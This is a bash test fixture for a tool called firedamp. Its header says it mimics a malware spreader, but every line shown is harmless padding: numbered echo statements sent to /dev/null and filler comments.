#!/bin/bash
# INERT TEST FIXTURE for firedamp (tests/tools/c2www/src/gen_big.py): a large
# script mimicking a TeamTNT-style spreader, mostly padding. Never executed;
# every address in it is loopback (127.0.0.x) or documentation space.
# section 00000: nothing happens here, this line only pads the file
echo "step 00001: checking component 1 of the inert fixture" >/dev/null
echo "step 00002: checking component 2 of the inert fixture" >/dev/null
echo "step 00003: checking component 3 of the inert fixture" >/dev/null
# section 00004: nothing happens here, this line only pads the file
echo "step 00005: checking component 5 of the inert fixture" >/dev/null
echo "step 00006: checking component 6 of the inert fixture" >/dev/null
echo "step 00007: checking component 7 of the inert fixture" >/dev/null
# section 00008: nothing happens here, this line only pads the file
echo "step 00009: checking component 9 of the inert fixture" >/dev/null
echo "step 00010: checking component 10 of the inert fixture" >/dev/null
echo "step 00011: checking component 11 of the inert fixture" >/dev/null
# section 00012: nothing happens here, this line only pads the file
echo "step 00013: checking component 13 of the inert fixture" >/dev/null
echo "step 00014: checking component 14 of the inert fixture" >/dev/null
echo "step 00015: checking component 15 of the inert fixture" >/dev/null
# section 00016: nothing happens here, this line only pads the file
echo "step 00017: checking component 17 of the inert fixture" >/dev/null
echo "step 00018: checking component 18 of the inert fixture" >/dev/null
echo "step 00019: checking component 19 of the inert fixture" >/dev/null
# section 00020: nothing happens here, this line only pads the file
echo "step 00021: checking component 21 of the inert fixture" >/dev/null
echo "step 00022: checking component 22 of the inert fixture" >/dev/null
echo "step 00023: checking component 23 of the inert fixture" >/dev/null
# section 00024: nothing happens here, this line only pads the file
echo "step 00025: checking component 25 of the inert fixture" >/dev/null
echo "step 00026: checking component 26 of the inert fixture" >/dev/null
echo "step 00027: checking component 27 of the inert fixture" >/dev/null
# section 00028: nothing happens here, this line only pads the file
echo "step 00029: checking component 29 of the inert fixture" >/dev/null
echo "step 00030: checking component 30 of the inert fixture" >/dev/null
echo "step 00031: checking component 31 of the inert fixture" >/dev/null
# section 00032: nothing happens here, this line only pads the file
echo "step 00033: checking component 33 of the inert fixture" >/dev/null
echo "step 00034: checking component 34 of the inert fixture" >/dev/null
echo "step 00035: checking component 35 of the inert fixture" >/dev/null
# section 00036: nothing happens here, this line only pads the file
echo "step 00037: checking component 37 of the inert fixture" >/dev/null
echo "step 00038: checking component 38 of the inert fixture" >/dev/null
echo "step 00039: checking component 39 of the inert fixture" >/dev/null
# section 00040: nothing happens here, this line only pads the file
echo "step 00041: checking component 41 of the inert fixture" >/dev/null
echo "step 00042: checking component 42 of the inert fixture" >/dev/null
echo "step 00043: checking component 43 of the inert fixture" >/dev/null
# section 00044: nothing happens here, this line only pads the file
echo "step 00045: checking component 45 of the inert fixture" >/dev/null
echo "step 00046: checking component 46 of the inert fixture" >/dev/null
echo "step 00047: checking component 47 of the inert fixture" >/dev/null
# section 00048: nothing happens here, this line only pads the file
echo "step 00049: checking component 49 of the inert fixture" >/dev/null
echo "step 00050: checking component 50 of the inert fixture" >/dev/null
echo "step 00051: checking component 51 of the inert fixture" >/dev/null
# section 00052: nothing happens here, this line only pads the file
echo "step 00053: checking component 53 of the inert fixture" >/dev/null
echo "step 00054: checking component 54 of the inert fixture" >/dev/null
echo "step 00055: checking component 55 of the inert fixture" >/dev/null
# section 00056: nothing happens here, this line only pads the file
echo "step 00057: checking component 57 of the inert fixture" >/dev/null
echo "step 00058: checking component 58 of the inert fixture" >/dev/null
echo "step 00059: checking component 59 of the inert fixture" >/dev/null
# section 00060: nothing happens here, this line only pads the file
echo "step 00061: checking component 61 of the inert fixture" >/dev/null
echo "step 00062: checking component 62 of the inert fixture" >/dev/null
echo "step 00063: checking component 63 of the inert fixture" >/dev/null
# section 00064: nothing happens here, this line only pads the file
echo "step 00065: checking component 65 of the inert fixture" >/dev/null
echo "step 00066: checking component 66 of the inert fixture" >/dev/null
echo "step 00067: checking component 67 of the inert fixture" >/dev/null
# section 00068: nothing happens here, this line only pads the file
echo "step 00069: checking component 69 of the inert fixture" >/dev/null
echo "step 00070: checking component 70 of the inert fixture" >/dev/null
echo "step 00071: checking component 71 of the inert fixture" >/dev/null
# section 00072: nothing happens here, this line only pads the file
echo "step 00073: checking component 73 of the inert fixture" >/dev/null
echo "step 00074: checking component 74 of the inert fixture" >/dev/null
echo "step 00075: checking component 75 of the inert fixture" >/dev/null
# section 00076: nothing happens here, this line only pads the file
echo "step 00077: checking component 77 of the inert fixture" >/dev/null
echo "step 00078: checking component 78 of the inert fixture" >/dev/null
echo "step 00079: checking component 79 of the inert fixture" >/dev/null
# section 00080: nothing happens here, this line only pads the file
echo "step 00081: checking component 81 of the inert fixture" >/dev/null
echo "step 00082: checking component 82 of the inert fixture" >/dev/null
echo "step 00083: checking component 83 of the inert fixture" >/dev/null
# section 00084: nothing happens here, this line only pads the file
echo "step 00085: checking component 85 of the inert fixture" >/dev/null
echo "step 00086: checking component 86 of the inert fixture" >/dev/null
echo "step 00087: checking component 87 of the inert fixture" >/dev/null
# section 00088: nothing happens here, this line only pads the file
echo "step 00089: checking component 89 of the inert fixture" >/dev/null
echo "step 00090: checking component 90 of the inert fixture" >/dev/null
echo "step 00091: checking component 91 of the inert fixture" >/dev/null
# section 00092: nothing happens here, this line only pads the file
echo "step 00093: checking component 93 of the inert fixture" >/dev/null
echo "step 00094: checking component 94 of the inert fixture" >/dev/null
echo "step 00095: checking component 95 of the inert fixture" >/dev/null
# section 00096: nothing happens here, this line only pads the file
echo "step 00097: checking component 0 of the inert fixture" >/dev/null
echo "step 00098: checking component 1 of the inert fixture" >/dev/null
echo "step 00099: checking component 2 of the inert fixture" >/dev/null
# section 00100: nothing happens here, this line only pads the file
echo "step 00101: checking component 4 of the inert fixture" >/dev/null
echo "step 00102: checking component 5 of the inert fixture" >/dev/null
echo "step 00103: checking component 6 of the inert fixture" >/dev/null
# section 00104: nothing happens here, this line only pads the file
echo "step 00105: checking component 8 of the inert fixture" >/dev/null
echo "step 00106: checking component 9 of the inert fixture" >/dev/null
echo "step 00107: checking component 10 of the inert fixture" >/dev/null
# section 00108: nothing happens here, this line only pads the file
echo "step 00109: checking component 12 of the inert fixture" >/dev/null
echo "step 00110: checking component 13 of the inert fixture" >/dev/null
echo "step 00111: checking component 14 of the inert fixture" >/dev/null
# section 00112: nothing happens here, this line only pads the file
echo "step 00113: checking component 16 of the inert fixture" >/dev/null
echo "step 00114: checking component 17 of the inert fixture" >/dev/null
echo "step 00115: checking component 18 of the inert fixture" >/dev/null
# section 00116: nothing happens here, this line only pads the file
echo "step 00117: checking component 20 of the inert fixture" >/dev/null
echo "step 00118: checking component 21 of the inert fixture" >/dev/null
echo "step 00119: checking component 22 of the inert fixture" >/dev/null
# section 00120: nothing happens here, this line only pads the file
echo "step 00121: checking component 24 of the inert fixture" >/dev/null
echo "step 00122: checking component 25 of the inert fixture" >/dev/null
echo "step 00123: checking component 26 of the inert fixture" >/dev/null
# section 00124: nothing happens here, this line only pads the file
echo "step 00125: checking component 28 of the inert fixture" >/dev/null
echo "step 00126: checking component 29 of the inert fixture" >/dev/null
echo "step 00127: checking component 30 of the inert fixture" >/dev/null
# section 00128: nothing happens here, this line only pads the file
echo "step 00129: checking component 32 of the inert fixture" >/dev/null
echo "step 00130: checking component 33 of the inert fixture" >/dev/null
echo "step 00131: checking component 34 of the inert fixture" >/dev/null
# section 00132: nothing happens here, this line only pads the file
echo "step 00133: checking component 36 of the inert fixture" >/dev/null
echo "step 00134: checking component 37 of the inert fixture" >/dev/null
echo "step 00135: checking component 38 of the inert fixture" >/dev/null
# section 00136: nothing happens here, this line only pads the file
echo "step 00137: checking component 40 of the inert fixture" >/dev/null
echo "step 00138: checking component 41 of the inert fixture" >/dev/null
echo "step 00139: checking component 42 of the inert fixture" >/dev/null
# section 00140: nothing happens here, this line only pads the file
echo "step 00141: checking component 44 of the inert fixture" >/dev/null
echo "step 00142: checking component 45 of the inert fixture" >/dev/null
echo "step 00143: checking component 46 of the inert fixture" >/dev/null
# section 00144: nothing happens here, this line only pads the file
echo "step 00145: checking component 48 of the inert fixture" >/dev/null
echo "step 00146: checking component 49 of the inert fixture" >/dev/null
echo "step 00147: checking component 50 of the inert fixture" >/dev/null
# section 00148: nothing happens here, this line only pads the file
echo "step 00149: checking component 52 of the inert fixture" >/dev/null
echo "step 00150: checking component 53 of the inert fixture" >/dev/null
echo "step 00151: checking component 54 of the inert fixture" >/dev/null
# section 00152: nothing happens here, this line only pads the file
echo "step 00153: checking component 56 of the inert fixture" >/dev/null
echo "step 00154: checking component 57 of the inert fixture" >/dev/null
echo "step 00155: checking component 58 of the inert fixture" >/dev/null
# section 00156: nothing happens here, this line only pads the file
echo "step 00157: checking component 60 of the inert fixture" >/dev/null
echo "step 00158: checking component 61 of the inert fixture" >/dev/null
echo "step 00159: checking component 62 of the inert fixture" >/dev/null
# section 00160: nothing happens here, this line only pads the file
echo "step 00161: checking component 64 of the inert fixture" >/dev/null
echo "step 00162: checking component 65 of the inert fixture" >/dev/null
echo "step 00163: checking component 66 of the inert fixture" >/dev/null
# section 00164: nothing happens here, this line only pads the file
echo "step 00165: checking component 68 of the inert fixture" >/dev/null
echo "step 00166: checking component 69 of the inert fixture" >/dev/null
echo "step 00167: checking component 70 of the inert fixture" >/dev/null
# section 00168: nothing happens here, this line only pads the file
echo "step 00169: checking component 72 of the inert fixture" >/dev/null
echo "step 00170: checking component 73 of the inert fixture" >/dev/null
echo "step 00171: checking component 74 of the inert fixture" >/dev/null
# section 00172: nothing happens here, this line only pads the file
echo "step 00173: checking component 76 of the inert fixture" >/dev/null
echo "step 00174: checking component 77 of the inert fixture" >/dev/null
echo "step 00175: checking component 78 of the inert fixture" >/dev/null
# section 00176: nothing happens here, this line only pads the file
echo "step 00177: checking component 80 of the inert fixture" >/dev/null
echo "step 00178: checking component 81 of the inert fixture" >/dev/null
echo "step 00179: checking component 82 of the inert fixture" >/dev/null
# section 00180: nothing happens here, this line only pads the file
echo "step 00181: checking component 84 of the inert fixture" >/dev/null
echo "step 00182: checking component 85 of the inert fixture" >/dev/null
echo "step 00183: checking component 86 of the inert fixture" >/dev/null
# section 00184: nothing happens here, this line only pads the file
echo "step 00185: checking component 88 of the inert fixture" >/dev/null
echo "step 00186: checking component 89 of the inert fixture" >/dev/null
echo "step 00187: checking component 90 of the inert fixture" >/dev/null
# section 00188: nothing happens here, this line only pads the file
echo "step 00189: checking component 92 of the inert fixture" >/dev/null
echo "step 00190: checking component 93 of the inert fixture" >/dev/null
echo "step 00191: checking component 94 of the inert fixture" >/dev/null
# section 00192: nothing happens here, this line only pads the file
echo "step 00193: checking component 96 of the inert fixture" >/dev/null
echo "step 00194: checking component 0 of the inert fixture" >/dev/null
echo "step 00195: checking component 1 of the inert fixture" >/dev/null
# section 00196: nothing happens here, this line only pads the file
echo "step 00197: checking component 3 of the inert fixture" >/dev/null
echo "step 00198: checking component 4 of the inert fixture" >/dev/null
echo "step 00199: checking component 5 of the inert fixture" >/dev/null
# section 00200: nothing happens here, this line only pads the file
echo "step 00201: checking component 7 of the inert fixture" >/dev/null
echo "step 00202: checking component 8 of the inert fixture" >/dev/null
echo "step 00203: checking component 9 of the inert fixture" >/dev/null
# section 00204: nothing happens here, this line only pads the file
echo "step 00205: checking component 11 of the inert fixture" >/dev/null
echo "step 00206: checking component 12 of the inert fixture" >/dev/null
echo "step 00207: checking component 13 of the inert fixture" >/dev/null
# section 00208: nothing happens here, this line only pads the file
echo "step 00209: checking component 15 of the inert fixture" >/dev/null
echo "step 00210: checking component 16 of the inert fixture" >/dev/null
echo "step 00211: checking component 17 of the inert fixture" >/dev/null
# section 00212: nothing happens here, this line only pads the file
echo "step 00213: checking component 19 of the inert fixture" >/dev/null
echo "step 00214: checking component 20 of the inert fixture" >/dev/null
echo "step 00215: checking component 21 of the inert fixture" >/dev/null
# section 00216: nothing happens here, this line only pads the file
echo "step 00217: checking component 23 of the inert fixture" >/dev/null
echo "step 00218: checking component 24 of the inert fixture" >/dev/null
echo "step 00219: checking component 25 of the inert fixture" >/dev/null
# section 00220: nothing happens here, this line only pads the file
echo "step 00221: checking component 27 of the inert fixture" >/dev/null
echo "step 00222: checking component 28 of the inert fixture" >/dev/null
echo "step 00223: checking component 29 of the inert fixture" >/dev/null
# section 00224: nothing happens here, this line only pads the file
echo "step 00225: checking component 31 of the inert fixture" >/dev/null
echo "step 00226: checking component 32 of the inert fixture" >/dev/null
echo "step 00227: checking component 33 of the inert fixture" >/dev/null
# section 00228: nothing happens here, this line only pads the file
echo "step 00229: checking component 35 of the inert fixture" >/dev/null
echo "step 00230: checking component 36 of the inert fixture" >/dev/null
echo "step 00231: checking component 37 of the inert fixture" >/dev/null
# section 00232: nothing happens here, this line only pads the file
echo "step 00233: checking component 39 of the inert fixture" >/dev/null
echo "step 00234: checking component 40 of the inert fixture" >/dev/null
echo "step 00235: checking component 41 of the inert fixture" >/dev/null
# section 00236: nothing happens here, this line only pads the file
echo "step 00237: checking component 43 of the inert fixture" >/dev/null
echo "step 00238: checking component 44 of the inert fixture" >/dev/null
echo "step 00239: checking component 45 of the inert fixture" >/dev/null
# section 00240: nothing happens here, this line only pads the file
echo "step 00241: checking component 47 of the inert fixture" >/dev/null
echo "step 00242: checking component 48 of the inert fixture" >/dev/null
echo "step 00243: checking component 49 of the inert fixture" >/dev/null
# section 00244: nothing happens here, this line only pads the file
echo "step 00245: checking component 51 of the inert fixture" >/dev/null
echo "step 00246: checking component 52 of the inert fixture" >/dev/null
echo "step 00247: checking component 53 of the inert fixture" >/dev/null
# section 00248: nothing happens here, this line only pads the file
echo "step 00249: checking component 55 of the inert fixture" >/dev/null
echo "step 00250: checking component 56 of the inert fixture" >/dev/null
echo "step 00251: checking component 57 of the inert fixture" >/dev/null
# section 00252: nothing happens here, this line only pads the file
echo "step 00253: checking component 59 of the inert fixture" >/dev/null
echo "step 00254: checking component 60 of the inert fixture" >/dev/null
echo "step 00255: checking component 61 of the inert fixture" >/dev/null
# section 00256: nothing happens here, this line only pads the file
echo "step 00257: checking component 63 of the inert fixture" >/dev/null
echo "step 00258: checking component 64 of the inert fixture" >/dev/null
echo "step 00259: checking component 65 of the inert fixture" >/dev/null
# section 00260: nothing happens here, this line only pads the file
echo "step 00261: checking component 67 of the inert fixture" >/dev/null
echo "step 00262: checking component 68 of the inert fixture" >/dev/null
echo "step 00263: checking component 69 of the inert fixture" >/dev/null
# section 00264: nothing happens here, this line only pads the file
echo "step 00265: checking component 71 of the inert fixture" >/dev/null
echo "step 00266: checking component 72 of the inert fixture" >/dev/null
echo "step 00267: checking component 73 of the inert fixture" >/dev/null
# section 00268: nothing happens here, this line only pads the file
echo "step 00269: checking component 75 of the inert fixture" >/dev/null
echo "step 00270: checking component 76 of the inert fixture" >/dev/null
echo "step 00271: checking component 77 of the inert fixture" >/dev/null
# section 00272: nothing happens here, this line only pads the file
echo "step 00273: checking component 79 of the inert fixture" >/dev/null
echo "step 00274: checking component 80 of the inert fixture" >/dev/null
echo "step 00275: checking component 81 of the inert fixture" >/dev/null
# section 00276: nothing happens here, this line only pads the file
echo "step 00277: checking component 83 of the inert fixture" >/dev/null
echo "step 00278: checking component 84 of the inert fixture" >/dev/null
echo "step 00279: checking component 85 of the inert fixture" >/dev/null
# section 00280: nothing happens here, this line only pads the file
echo "step 00281: checking component 87 of the inert fixture" >/dev/null
echo "step 00282: checking component 88 of the inert fixture" >/dev/null
echo "step 00283: checking component 89 of the inert fixture" >/dev/null
# section 00284: nothing happens here, this line only pads the file
echo "step 00285: checking component 91 of the inert fixture" >/dev/null
echo "step 00286: checking component 92 of the inert fixture" >/dev/null
echo "step 00287: checking component 93 of the inert fixture" >/dev/null
# section 00288: nothing happens here, this line only pads the file
echo "step 00289: checking component 95 of the inert fixture" >/dev/null
echo "step 00290: checking component 96 of the inert fixture" >/dev/null
echo "step 00291: checking component 0 of the inert fixture" >/dev/null
# section 00292: nothing happens here, this line only pads the file
echo "step 00293: checking component 2 of the inert fixture" >/dev/null
echo "step 00294: checking component 3 of the inert fixture" >/dev/null
echo "step 00295: checking component 4 of the inert fixture" >/dev/null
# section 00296: nothing happens here, this line only pads the file
echo "step 00297: checking component 6 of the inert fixture" >/dev/null
echo "step 00298: checking component 7 of the inert fixture" >/dev/null
echo "step 00299: checking component 8 of the inert fixture" >/dev/null
# section 00300: nothing happens here, this line only pads the file
echo "step 00301: checking component 10 of the inert fixture" >/dev/null
echo "step 00302: checking component 11 of the inert fixture" >/dev/null
echo "step 00303: checking component 12 of the inert fixture" >/dev/null
# section 00304: nothing happens here, this line only pads the file
echo "step 00305: checking component 14 of the inert fixture" >/dev/null
echo "step 00306: checking component 15 of the inert fixture" >/dev/null
echo "step 00307: checking component 16 of the inert fixture" >/dev/null
# section 00308: nothing happens here, this line only pads the file
echo "step 00309: checking component 18 of the inert fixture" >/dev/null
echo "step 00310: checking component 19 of the inert fixture" >/dev/null
echo "step 00311: checking component 20 of the inert fixture" >/dev/null
# section 00312: nothing happens here, this line only pads the file
echo "step 00313: checking component 22 of the inert fixture" >/dev/null
echo "step 00314: checking component 23 of the inert fixture" >/dev/null
echo "step 00315: checking component 24 of the inert fixture" >/dev/null
# section 00316: nothing happens here, this line only pads the file
echo "step 00317: checking component 26 of the inert fixture" >/dev/null
echo "step 00318: checking component 27 of the inert fixture" >/dev/null
echo "step 00319: checking component 28 of the inert fixture" >/dev/null
# section 00320: nothing happens here, this line only pads the file
echo "step 00321: checking component 30 of the inert fixture" >/dev/null
echo "step 00322: checking component 31 of the inert fixture" >/dev/null
echo "step 00323: checking component 32 of the inert fixture" >/dev/null
# section 00324: nothing happens here, this line only pads the file
echo "step 00325: checking component 34 of the inert fixture" >/dev/null
echo "step 00326: checking component 35 of the inert fixture" >/dev/null
echo "step 00327: checking component 36 of the inert fixture" >/dev/null
# section 00328: nothing happens here, this line only pads the file
echo "step 00329: checking component 38 of the inert fixture" >/dev/null
echo "step 00330: checking component 39 of the inert fixture" >/dev/null
echo "step 00331: checking component 40 of the inert fixture" >/dev/null
# section 00332: nothing happens here, this line only pads the file
echo "step 00333: checking component 42 of the inert fixture" >/dev/null
echo "step 00334: checking component 43 of the inert fixture" >/dev/null
echo "step 00335: checking component 44 of the inert fixture" >/dev/null
# section 00336: nothing happens here, this line only pads the file
echo "step 00337: checking component 46 of the inert fixture" >/dev/null
echo "step 00338: checking component 47 of the inert fixture" >/dev/null
echo "step 00339: checking component 48 of the inert fixture" >/dev/null
# section 00340: nothing happens here, this line only pads the file
echo "step 00341: checking component 50 of the inert fixture" >/dev/null
echo "step 00342: checking component 51 of the inert fixture" >/dev/null
echo "step 00343: checking component 52 of the inert fixture" >/dev/null
# section 00344: nothing happens here, this line only pads the file
echo "step 00345: checking component 54 of the inert fixture" >/dev/null
echo "step 00346: checking component 55 of the inert fixture" >/dev/null
echo "step 00347: checking component 56 of the inert fixture" >/dev/null
# section 00348: nothing happens here, this line only pads the file
echo "step 00349: checking component 58 of the inert fixture" >/dev/null
echo "step 00350: checking component 59 of the inert fixture" >/dev/null
echo "step 00351: checking component 60 of the inert fixture" >/dev/null
# section 00352: nothing happens here, this line only pads the file
echo "step 00353: checking component 62 of the inert fixture" >/dev/null
echo "step 00354: checking component 63 of the inert fixture" >/dev/null
echo "step 00355: checking component 64 of the inert fixture" >/dev/null
# section 00356: nothing happens here, this line only pads the file
echo "step 00357: checking component 66 of the inert fixture" >/dev/null
echo "step 00358: checking component 67 of the inert fixture" >/dev/null
echo "step 00359: checking component 68 of the inert fixture" >/dev/null
# section 00360: nothing happens here, this line only pads the file
echo "step 00361: checking component 70 of the inert fixture" >/dev/null
echo "step 00362: checking component 71 of the inert fixture" >/dev/null
echo "step 00363: checking component 72 of the inert fixture" >/dev/null
# section 00364: nothing happens here, this line only pads the file
echo "step 00365: checking component 74 of the inert fixture" >/dev/null
echo "step 00366: checking component 75 of the inert fixture" >/dev/null
echo "step 00367: checking component 76 of the inert fixture" >/dev/null
# section 00368: nothing happens here, this line only pads the file
echo "step 00369: checking component 78 of the inert fixture" >/dev/null
echo "step 00370: checking component 79 of the inert fixture" >/dev/null
echo "step 00371: checking component 80 of the inert fixture" >/dev/null
# section 00372: nothing happens here, this line only pads the file
echo "step 00373: checking component 82 of the inert fixture" >/dev/null
echo "step 00374: checking component 83 of the inert fixture" >/dev/null
echo "step 00375: checking component 84 of the inert fixture" >/dev/null
# section 00376: nothing happens here, this line only pads the file
echo "step 00377: checking component 86 of the inert fixture" >/dev/null
echo "step 00378: checking component 87 of the inert fixture" >/dev/null
echo "step 00379: checking component 88 of the inert fixture" >/dev/null
# section 00380: nothing happens here, this line only pads the file
echo "step 00381: checking component 90 of the inert fixture" >/dev/null
echo "step 00382: checking component 91 of the inert fixture" >/dev/null
echo "step 00383: checking component 92 of the inert fixture" >/dev/null
# section 00384: nothing happens here, this line only pads the file
echo "step 00385: checking component 94 of the inert fixture" >/dev/null
echo "step 00386: checking component 95 of the inert fixture" >/dev/null
echo "step 00387: checking component 96 of the inert fixture" >/dev/null
# section 00388: nothing happens here, this line only pads the file
echo "step 00389: checking component 1 of the inert fixture" >/dev/null
echo "step 00390: checking component 2 of the inert fixture" >/dev/null
echo "step 00391: checking component 3 of the inert fixture" >/dev/null
# section 00392: nothing happens here, this line only pads the file
echo "step 00393: checking component 5 of the inert fixture" >/dev/null
echo "step 00394: checking component 6 of the inert fixture" >/dev/null
echo "step 00395: checking component 7 of the inert fixture" >/dev/null
# section 00396: nothing happens here, this line only pads the file
echo "step 00397: checking component 9 of the inert fixture" >/dev/null
echo "step 00398: checking component 10 of the inert fixture" >/dev/null
echo "step 00399: checking component 11 of the inert fixture" >/dev/null
# section 00400: nothing happens here, this line only pads the file
echo "step 00401: checking component 13 of the inert fixture" >/dev/null
echo "step 00402: checking component 14 of the inert fixture" >/dev/null
echo "step 00403: checking component 15 of the inert fixture" >/dev/null
# section 00404: nothing happens here, this line only pads the file
echo "step 00405: checking component 17 of the inert fixture" >/dev/null
echo "step 00406: checking component 18 of the inert fixture" >/dev/null
echo "step 00407: checking component 19 of the inert fixture" >/dev/null
# section 00408: nothing happens here, this line only pads the file
echo "step 00409: checking component 21 of the inert fixture" >/dev/null
echo "step 00410: checking component 22 of the inert fixture" >/dev/null
echo "step 00411: checking component 23 of the inert fixture" >/dev/null
# section 00412: nothing happens here, this line only pads the file
echo "step 00413: checking component 25 of the inert fixture" >/dev/null
echo "step 00414: checking component 26 of the inert fixture" >/dev/null
echo "step 00415: checking component 27 of the inert fixture" >/dev/null
# section 00416: nothing happens here, this line only pads the file
echo "step 00417: checking component 29 of the inert fixture" >/dev/null
echo "step 00418: checking component 30 of the inert fixture" >/dev/null
echo "step 00419: checking component 31 of the inert fixture" >/dev/null
# section 00420: nothing happens here, this line only pads the file
echo "step 00421: checking component 33 of the inert fixture" >/dev/null
echo "step 00422: checking component 34 of the inert fixture" >/dev/null
echo "step 00423: checking component 35 of the inert fixture" >/dev/null
# section 00424: nothing happens here, this line only pads the file
echo "step 00425: checking component 37 of the inert fixture" >/dev/null
echo "step 00426: checking component 38 of the inert fixture" >/dev/null
echo "step 00427: checking component 39 of the inert fixture" >/dev/null
# section 00428: nothing happens here, this line only pads the file
echo "step 00429: checking component 41 of the inert fixture" >/dev/null
echo "step 00430: checking component 42 of the inert fixture" >/dev/null
echo "step 00431: checking component 43 of the inert fixture" >/dev/null
# section 00432: nothing happens here, this line only pads the file
echo "step 00433: checking component 45 of the inert fixture" >/dev/null
echo "step 00434: checking component 46 of the inert fixture" >/dev/null
echo "step 00435: checking component 47 of the inert fixture" >/dev/null
# section 00436: nothing happens here, this line only pads the file
echo "step 00437: checking component 49 of the inert fixture" >/dev/null
echo "step 00438: checking component 50 of the inert fixture" >/dev/null
echo "step 00439: checking component 51 of the inert fixture" >/dev/null
# section 00440: nothing happens here, this line only pads the file
echo "step 00441: checking component 53 of the inert fixture" >/dev/null
echo "step 00442: checking component 54 of the inert fixture" >/dev/null
echo "step 00443: checking component 55 of the inert fixture" >/dev/null
# section 00444: nothing happens here, this line only pads the file
echo "step 00445: checking component 57 of the inert fixture" >/dev/null
echo "step 00446: checking component 58 of the inert fixture" >/dev/null
echo "step 00447: checking component 59 of the inert fixture" >/dev/null
# section 00448: nothing happens here, this line only pads the file
echo "step 00449: checking component 61 of the inert fixture" >/dev/null
echo "step 00450: checking component 62 of the inert fixture" >/dev/null
echo "step 00451: checking component 63 of the inert fixture" >/dev/null
# section 00452: nothing happens here, this line only pads the file
echo "step 00453: checking component 65 of the inert fixture" >/dev/null
echo "step 00454: checking component 66 of the inert fixture" >/dev/null
echo "step 00455: checking component 67 of the inert fixture" >/dev/null
# section 00456: nothing happens here, this line only pads the file
echo "step 00457: checking component 69 of the inert fixture" >/dev/null
echo "step 00458: checking component 70 of the inert fixture" >/dev/null
echo "step 00459: checking component 71 of the inert fixture" >/dev/null
# section 00460: nothing happens here, this line only pads the file
echo "step 00461: checking component 73 of the inert fixture" >/dev/null
echo "step 00462: checking component 74 of the inert fixture" >/dev/null
echo "step 00463: checking component 75 of the inert fixture" >/dev/null
# section 00464: nothing happens here, this line only pads the file
echo "step 00465: checking component 77 of the inert fixture" >/dev/null
echo "step 00466: checking component 78 of the inert fixture" >/dev/null
echo "step 00467: checking component 79 of the inert fixture" >/dev/null
# section 00468: nothing happens here, this line only pads the file
echo "step 00469: checking component 81 of the inert fixture" >/dev/null
echo "step 00470: checking component 82 of the inert fixture" >/dev/null
echo "step 00471: checking component 83 of the inert fixture" >/dev/null
# section 00472: nothing happens here, this line only pads the file
echo "step 00473: checking component 85 of the inert fixture" >/dev/null
echo "step 00474: checking component 86 of the inert fixture" >/dev/null
echo "step 00475: checking component 87 of the inert fixture" >/dev/null
# section 00476: nothing happens here, this line only pads the file
echo "step 00477: checking component 89 of the inert fixture" >/dev/null
echo "step 00478: checking component 90 of the inert fixture" >/dev/null
echo "step 00479: checking component 91 of the inert fixture" >/dev/null
# section 00480: nothing happens here, this line only pads the file
echo "step 00481: checking component 93 of the inert fixture" >/dev/null
echo "step 00482: checking component 94 of the inert fixture" >/dev/null
echo "step 00483: checking component 95 of the inert fixture" >/dev/null
# section 00484: nothing happens here, this line only pads the file
echo "step 00485: checking component 0 of the inert fixture" >/dev/null
echo "step 00486: checking component 1 of the inert fixture" >/dev/null
echo "step 00487: checking component 2 of the inert fixture" >/dev/null
# section 00488: nothing happens here, this line only pads the file
echo "step 00489: checking component 4 of the inert fixture" >/dev/null
echo "step 00490: checking component 5 of the inert fixture" >/dev/null
echo "step 00491: checking component 6 of the inert fixture" >/dev/null
# section 00492: nothing happens here, this line only pads the file
echo "step 00493: checking component 8 of the inert fixture" >/dev/null
echo "step 00494: checking component 9 of the inert fixture" >/dev/null
echo "step 00495: checking component 10 of the inert fixture" >/dev/null
# section 00496: nothing happens here, this line only pads the file
echo "step 00497: checking component 12 of the inert fixture" >/dev/null
echo "step 00498: checking component 13 of the inert fixture" >/dev/null
echo "step 00499: checking component 14 of the inert fixture" >/dev/null
# section 00500: nothing happens here, this line only pads the file
echo "step 00501: checking component 16 of the inert fixture" >/dev/null
echo "step 00502: checking component 17 of the inert fixture" >/dev/null
echo "step 00503: checking component 18 of the inert fixture" >/dev/null
# section 00504: nothing happens here, this line only pads the file
echo "step 00505: checking component 20 of the inert fixture" >/dev/null
echo "step 00506: checking component 21 of the inert fixture" >/dev/null
echo "step 00507: checking component 22 of the inert fixture" >/dev/null
# section 00508: nothing happens here, this line only pads the file
echo "step 00509: checking component 24 of the inert fixture" >/dev/null
echo "step 00510: checking component 25 of the inert fixture" >/dev/null
echo "step 00511: checking component 26 of the inert fixture" >/dev/null
# section 00512: nothing happens here, this line only pads the file
echo "step 00513: checking component 28 of the inert fixture" >/dev/null
echo "step 00514: checking component 29 of the inert fixture" >/dev/null
echo "step 00515: checking component 30 of the inert fixture" >/dev/null
# section 00516: nothing happens here, this line only pads the file
echo "step 00517: checking component 32 of the inert fixture" >/dev/null
echo "step 00518: checking component 33 of the inert fixture" >/dev/null
echo "step 00519: checking component 34 of the inert fixture" >/dev/null
# section 00520: nothing happens here, this line only pads the file
echo "step 00521: checking component 36 of the inert fixture" >/dev/null
echo "step 00522: checking component 37 of the inert fixture" >/dev/null
echo "step 00523: checking component 38 of the inert fixture" >/dev/null
# section 00524: nothing happens here, this line only pads the file
echo "step 00525: checking component 40 of the inert fixture" >/dev/null
echo "step 00526: checking component 41 of the inert fixture" >/dev/null
echo "step 00527: checking component 42 of the inert fixture" >/dev/null
# section 00528: nothing happens here, this line only pads the file
echo "step 00529: checking component 44 of the inert fixture" >/dev/null
echo "step 00530: checking component 45 of the inert fixture" >/dev/null
echo "step 00531: checking component 46 of the inert fixture" >/dev/null
# section 00532: nothing happens here, this line only pads the file
echo "step 00533: checking component 48 of the inert fixture" >/dev/null
echo "step 00534: checking component 49 of the inert fixture" >/dev/null
echo "step 00535: checking component 50 of the inert fixture" >/dev/null
# section 00536: nothing happens here, this line only pads the file
echo "step 00537: checking component 52 of the inert fixture" >/dev/null
echo "step 00538: checking component 53 of the inert fixture" >/dev/null
echo "step 00539: checking component 54 of the inert fixture" >/dev/null
# section 00540: nothing happens here, this line only pads the file
echo "step 00541: checking component 56 of the inert fixture" >/dev/null
echo "step 00542: checking component 57 of the inert fixture" >/dev/null
echo "step 00543: checking component 58 of the inert fixture" >/dev/null
# section 00544: nothing happens here, this line only pads the file
echo "step 00545: checking component 60 of the inert fixture" >/dev/null
echo "step 00546: checking component 61 of the inert fixture" >/dev/null
echo "step 00547: checking component 62 of the inert fixture" >/dev/null
# section 00548: nothing happens here, this line only pads the file
echo "step 00549: checking component 64 of the inert fixture" >/dev/null
echo "step 00550: checking component 65 of the inert fixture" >/dev/null
